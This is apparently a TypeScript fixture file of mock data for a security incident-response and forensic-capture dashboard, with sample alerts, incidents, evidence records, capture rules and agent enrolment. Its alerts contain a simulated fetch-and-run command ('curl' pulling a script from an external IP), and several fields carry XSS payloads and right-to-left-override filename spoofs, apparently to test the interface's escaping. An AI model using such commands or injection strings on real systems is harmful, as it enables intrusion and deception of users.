import type {
  Agent,
  Alert,
  ApiKey,
  Asset,
  Capture,
  CoverageRow,
  Decision,
  Enrolment,
  Evidence,
  EvidenceKey,
  Forensics,
  Incident,
  Profile,
  Rule,
} from '../src/api/types.ts';
import { captures as contained } from './contained.ts';
import { events } from './events.ts';

const SHA = '3b7e4f0c9a1d58e2b6f7c8091a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d';
const T = (time: string) => `2026-11-22T${time}Z`;
export const web01 = { id: 'as-1', name: 'web01.example.net' };
const db02 = { id: 'as-2', name: 'db02' };

const alert = (id: string, title: string, severity: number, label: string, at: string): Alert => ({
  id,
  source: 'darktrace',
  receivedAt: T('01:02:40.120'),
  state: 'normalised',
  asset: 'as-1',
  incident: 'in-1',
  normalised: {
    sourceAlertId: `dt-${id}`,
    revision: '1',
    title,
    description: 'A process fetched a script over plain HTTP and ran it.',
    category: 'Unusual activity',
    severity,
    severityLabel: label,
    firstSeen: T(at),
    lastSeen: T(at),
    hosts: [
      {
        hostname: 'web01',
        fqdn: 'web01.example.net',
        ips: ['10.20.0.11'],
        macs: [],
        os: 'Debian 12',
        containment: 'contained',
        cloud: { provider: 'aws', account: '111122223333', region: 'eu-central-1' },
      },
    ],
    users: [{ name: 'www-data' }],
    processes: [
      {
        image: '/usr/bin/curl',
        commandLine: 'curl -s http://198.51.100.23/up.sh',
        pid: 20311,
        hashes: { sha256: SHA },
      },
    ],
    files: [{ path: '/tmp/.x/kworkerds', hashes: {} }],
    network: [
      {
        sourceIp: '10.20.0.11',
        destinationIp: '198.51.100.23',
        destinationPort: 80,
        url: 'http://198.51.100.23/up.sh',
      },
    ],
    attack: [{ tactic: 'execution', technique: 'T1059.004' }, { technique: 'T1105' }],
  },
});
export const alerts: Alert[] = [
  alert('a1', 'Script fetched and run by the web server', 91, 'critical', '01:00:19'),
  alert('a2', 'Connection to rare external address 198.51.100.23', 72, 'high', '01:00:21'),
  alert('a3', 'Login from unusual location <script>alert(1)</script>', 55, 'medium', '00:58:02'),
  alert('a4', 'Database dump left the network', 68, 'high', '01:20:10'),
  {
    id: 'a5',
    source: 'generic',
    receivedAt: T('01:30:00'),
    state: 'rejected',
    problem: 'The field “time” is not a time: "yesterday".',
    incident: 'in-1',
  },
];
export const raw = JSON.stringify({
  pbid: 4711,
  model: 'Script\u202e fetched',
  device: { hostname: 'web01<img src=x onerror=alert(1)>' },
});

const captures0 = {
  awaiting_approval: 1,
  rejected: 0,
  queued: 0,
  running: 1,
  captured: 1,
  failed: 1,
  cancelled: 0,
};
export const incidents: Incident[] = [
  {
    id: 'in-1',
    title: 'Script fetched and run by the web server',
    severity: 91,
    severityLabel: 'critical',
    status: 'open',
    openedAt: T('01:02:41'),
    firstSeen: T('00:58:02'),
    lastSeen: T('01:30:00'),
    alerts: 5,
    assets: [web01, db02],
    captures: captures0,
  },
  {
    id: 'in-2',
    title: 'Password spraying against VPN',
    severity: 66,
    severityLabel: 'high',
    status: 'open',
    openedAt: T('00:12:00'),
    firstSeen: '2026-11-21T23:40:11Z',
    lastSeen: T('00:11:59'),
    alerts: 14,
    assets: [{ id: 'as-3', name: 'vpn-gw-1' }],
    captures: { ...captures0, running: 0, failed: 0, captured: 2 },
  },
  {
    id: 'in-3',
    title: 'invoice\u202egnp.exe opened',
    severity: 48,
    severityLabel: 'medium',
    status: 'open',
    openedAt: '2026-11-21T15:12:00Z',
    firstSeen: '2026-11-21T15:10:00Z',
    lastSeen: '2026-11-21T15:11:59Z',
    alerts: 1,
    assets: [],
    captures: { ...captures0, running: 0, failed: 0, captured: 0 },
  },
  {
    id: 'in-4',
    title: 'Scan of internal ports',
    severity: 20,
    severityLabel: 'low',
    status: 'closed',
    openedAt: '2026-11-20T10:12:00Z',
    firstSeen: '2026-11-20T10:10:00Z',
    lastSeen: '2026-11-20T10:11:59Z',
    alerts: 3,
    assets: [{ id: 'as-4', name: 'build-7' }],
    captures: { ...captures0, running: 0, failed: 0 },
  },
];

export function captures(): Capture[] {
  const base = {
    provider: 'endpoint',
    profile: 'triage',
    incident: 'in-1',
    requestedBy: 'rule:Critical alerts on servers',
    steps: {},
  };
  const done = Math.round(((Date.now() / 1000) % 60) * 1_400_000);
  return [
    ...contained,
    {
      ...base,
      id: 'c1',
      evidence: 'ev-7b21',
      asset: web01,
      requestedAt: T('01:02:44'),
      startedAt: new Date(Date.now() - 42_000).toISOString(),
      state: 'running',
      done,
      total: 84_000_000,
      text: 'Sending /var/log/journal (12 of 31 artefacts done)',
    },
    {
      ...base,
      id: 'c2',
      evidence: 'ev-0f3a9c',
      asset: web01,
      requestedAt: T('01:02:43'),
      startedAt: T('01:02:44'),
      endedAt: T('01:02:58'),
      state: 'captured',
      done: 48_321_992,
      total: 48_321_992,
      text: '31 artefacts, 4 paths missing, 1 could not be read; sealed in 14 s',
    },
    {
      ...base,
      id: 'c3',
      evidence: 'ev-99',
      asset: db02,
      requestedAt: T('01:21:00'),
      startedAt: T('01:21:00'),
      endedAt: T('01:26:00'),
      state: 'failed',
      done: 0,
      total: 0,
      text: 'The agent on db02 did not answer for 5 minutes. It was last seen 2026-11-21 18:02:11Z. Start the agent on the host, then capture again.',
    },
  ];
}
export function evidence(): Evidence[] {
  const base = { asset: web01, provider: 'endpoint', profile: 'triage' };
  return [
    {
      ...base,
      id: 'ev-0f3a9c',
      key: 'main/ev-0f3a9c',
      state: 'sealed',
      size: 48_321_992,
      sha256: SHA,
      parts: 6,
      createdAt: T('01:02:44.12'),
      sealedAt: T('01:02:58.402'),
      processing: {
        state: 'done',
        run: '1',
        events: 11_204,
        text: '',
        done: 812,
        total: 812,
        startedAt: T('01:02:58'),
        endedAt: T('01:03:09'),
      },
    },
    {
      ...base,
      id: 'ev-7b21',
      key: 'main/ev-7b21',
      state: 'capturing',
      size: 21_000_000,
      parts: 3,
      createdAt: T('02:10:04'),
      processing: {
        state: 'running',
        run: '1',
        events: 796,
        text: 'reading /var/log/journal',
        done: 120,
        total: 400,
      },
    },
  ];
}
export const decisions: Decision[] = [
  {
    alert: 'a1',
    rule: 'r1',
    ruleName: 'Critical alerts on servers',
    outcome: 'capture_requested',
    reason: 'Severity 91 is 70 or more; web01 has an agent online.',
    at: T('01:02:43'),
    capture: 'c2',
  },
  {
    alert: 'a2',
    rule: 'r1',
    ruleName: 'Critical alerts on servers',
    outcome: 'already_captured',
    reason: 'web01 was captured with profile triage 4 s earlier; the rule waits 1 h.',
    at: T('01:02:47'),
    capture: 'c2',
  },
  {
    alert: 'a3',
    outcome: 'no_rule_matched',
    reason: 'Severity 55 is below the 70 of every rule.',
    at: T('01:02:48'),
  },
  {
    alert: 'a4',
    rule: 'r1',
    ruleName: 'Critical alerts on servers',
    outcome: 'unreachable',
    reason: 'db02 has an agent, offline since 2026-11-21 18:02:11Z.',
    at: T('01:21:00'),
  },
];
export function forensics(): Forensics {
  const of = (index: number) => alerts[index] as Alert;
  return {
    incident: incidents[0] as Incident,
    alerts: [
      {
        alert: of(0),
        corroboration: {
          state: 'confirmed',
          reason:
            'The shell history of www-data and the process list both hold the command of the alert, 2 seconds after its time.',
          events: events.filter(({ parser }) => parser === 'bash_history').slice(40, 47),
          sources: [
            { name: 'shell histories', status: 'read' },
            { name: 'process list', status: 'read' },
            { name: 'journal', status: 'partial' },
          ],
        },
      },
      {
        alert: of(1),
        corroboration: {
          state: 'not_seen',
          reason:
            'Sockets were read at 01:02:46Z and hold no connection to 198.51.100.23; it may have ended before.',
          events: [],
          sources: [{ name: 'open sockets', status: 'read' }],
        },
      },
      {
        alert: of(2),
        corroboration: {
          state: 'contradicted',
          reason:
            'The authentication log covers the whole window and holds no login from that address; the only login is by key from 203.0.113.7.',
          events: events.filter(({ parser }) => parser === 'auth').slice(2, 4),
          sources: [{ name: 'authentication log', status: 'read' }],
        },
      },
      {
        alert: of(3),
        corroboration: {
          state: 'not_collected',
          reason: 'Nothing of db02 was captured: its agent did not answer.',
          events: [],
          sources: [{ name: 'open sockets', status: 'not_collected' }],
        },
      },
      {
        alert: of(4),
        corroboration: {
          state: 'pending',
          reason: 'The evidence is still being read.',
          events: [],
          sources: [],
        },
      },
    ],
    captures: captures(),
    evidence: evidence(),
    decisions,
    firstEvents: events.slice(4000, 4009),
    expiring: [
      {
        asset: { id: 'as-2', name: 'db02' },
        kind: 'memory',
        what: 'Memory, processes and network connections',
        ends: 'gone when the host is restarted or shut down',
        state: 'open',
        profiles: ['volatile', 'triage'],
      },
      {
        asset: { id: 'as-2', name: 'db02' },
        kind: 'cloudtrail',
        what: 'CloudTrail’s event history',
        ends: 'kept for 90 days where no trail is set up',
        until: '2027-02-20T01:00:19Z',
        state: 'open',
        profiles: [],
      },
      {
        asset: { id: 'as-2', name: 'db02' },
        kind: 'instance_disks',
        what: 'The instance’s disks',
        ends: 'gone when the instance is terminated; Auto Scaling may do so at any time',
        state: 'held',
        profiles: ['disk'],
        capture: 'c7',
      },
    ],
    coverage: {
      files: 812,
      parsed: 634,
      partial: 12,
      failed: 3,
      unparsed: 131,
      empty: 32,
      found: 11_391,
      records: 11_391,
      rejected: 187,
      events: 11_204,
    },
    timelineQuery: { incident: 'in-1', from: T('00:43:02'), to: T('01:45:00'), q: '' },
  };
}
export const evidenceKeys: EvidenceKey[] = [
  { id: 'k1', kind: 'recovery', addedBy: 'user:admin', addedAt: '2026-11-22T02:20:00Z' },
];
export const coverage: CoverageRow[] = [
  {
    path: '/var/log/auth.log',
    size: 812_331,
    parser: 'auth',
    status: 'parsed',
    found: 4120,
    parsed: 4120,
    rejected: 0,
    events: 4120,
    warnings: [],
  },
  {
    path: '/var/log/journal/3f/system.journal',
    size: 8_388_608,
    parser: 'journal',
    status: 'partial',
    found: 6011,
    parsed: 5824,
    rejected: 187,
    events: 5824,
    warnings: [
      {
        offset: 8_290_304,
        reason: 'entry array points past the end of the file; the file was being written',
      },
    ],
  },
  {
    path: '/var/log/wtmp',
    size: 0,
    parser: 'utmp',
    status: 'empty',
    found: 0,
    parsed: 0,
    rejected: 0,
    events: 0,
    warnings: [],
  },
  {
    path: '/var/lib/dpkg/status\u202eold',
    size: 1_231_441,
    mediaType: 'text/plain',
    status: 'unparsed',
    found: 0,
    parsed: 0,
    rejected: 0,
    events: 0,
    warnings: [],
  },
  {
    path: '/home/deploy/.bash_history',
    size: 2311,
    parser: 'bash_history',
    status: 'failed',
    found: 1,
    parsed: 0,
    rejected: 1,
    events: 0,
    warnings: [{ offset: 0, reason: 'not text: 62 % of the bytes are zero' }],
  },
];
export const assets: Asset[] = [
  {
    ...web01,
    createdAt: '2026-11-02T08:00:00Z',
    agent: { id: 'ag-1', online: true, lastSeen: T('02:14:00') },
    identifiers: [
      { kind: 'agent_id', value: 'ag-1', firstSeen: '2026-11-02T08:00:00Z', lastSeen: T('02:14:00') },
      {
        kind: 'fqdn',
        value: 'web01.example.net',
        firstSeen: '2026-11-02T08:00:00Z',
        lastSeen: T('02:14:00'),
      },
      { kind: 'address', value: '10.20.0.11', firstSeen: '2026-11-02T08:00:00Z', lastSeen: T('02:14:00') },
    ],
  },
  {
    ...db02,
    createdAt: '2026-11-02T08:10:00Z',
    agent: { id: 'ag-2', online: false, lastSeen: '2026-11-21T18:02:11Z' },
    identifiers: [
      { kind: 'host_name', value: 'db02', firstSeen: '2026-11-02T08:10:00Z', lastSeen: T('01:20:10') },
      { kind: 'agent_id', value: 'ag-2', firstSeen: '2026-11-02T08:10:00Z', lastSeen: T('01:20:10') },
      { kind: 'sensor_id', value: 'crowdstrike:8f2c1e', firstSeen: T('01:20:10'), lastSeen: T('01:20:10') },
    ],
  },
  {
    id: 'as-3',
    name: 'vpn-gw-1',
    createdAt: T('00:11:59'),
    identifiers: [
      { kind: 'sensor_id', value: 'darktrace:22', firstSeen: T('00:11:59'), lastSeen: T('00:11:59') },
    ],
  },
];
export const rules: Rule[] = [
  {
    id: 'r1',
    name: 'Critical alerts on servers',
    enabled: true,
    position: 0,
    sources: [],
    minimumSeverity: 70,
    techniques: [],
    assetPattern: '*',
    providers: ['auto'],
    profile: 'triage',
    dedupeWindow: 'PT1H',
    dailyBudget: 20,
    patience: 'PT10M',
    approval: 'none',
  },
  {
    id: 'r2',
    name: 'Any shell on web servers',
    enabled: false,
    position: 1,
    sources: ['darktrace'],
    minimumSeverity: 30,
    techniques: ['T1059'],
    assetPattern: 'web*',
    providers: ['crowdstrike', 'endpoint'],
    profile: 'triage',
    dedupeWindow: 'PT30M',
    dailyBudget: 5,
    patience: 'PT5M',
    approval: 'required',
  },
];
export const agents: Agent[] = [
  {
    id: 'ag-1',
    host: 'web01',
    os: 'Debian GNU/Linux 12',
    version: '0.1.0',
    asset: 'as-1',
    enrolledAt: '2026-11-02T08:00:00Z',
    lastSeen: T('02:14:00'),
    online: true,
  },
  {
    id: 'ag-2',
    host: 'db02',
    os: 'Debian GNU/Linux 12',
    version: '0.1.0',
    asset: 'as-2',
    enrolledAt: '2026-11-02T08:10:00Z',
    lastSeen: '2026-11-21T18:02:11Z',
    online: false,
  },
];
export const keys: ApiKey[] = [
  {
    id: 'k1',
    name: 'darktrace',
    scopes: ['alerts'],
    createdAt: '2026-11-02T08:00:00Z',
    lastUsed: T('01:02:40'),
  },
];
export const profiles: Profile[] = [
  {
    name: 'triage',
    description: 'Volatile state, logs, histories and persistence of a Linux host.',
    artifacts: ['LinuxAuthLogs', 'LinuxCronTabs', 'BashShellHistoryFile', 'LinuxSystemdJournalConfig'],
  },
  { name: 'logs', description: 'Logs only.', artifacts: ['LinuxAuthLogs'] },
];
export const enrolment: Enrolment = {
  token: 'et_91fa…',
  expiresAt: T('03:14:00'),
  server: 'https://varve.example.net:8443',
  fingerprint: SHA,
  command: `./varve agent run --server https://varve.example.net:8443 --fingerprint ${SHA} --token et_91fa22c0`,
};
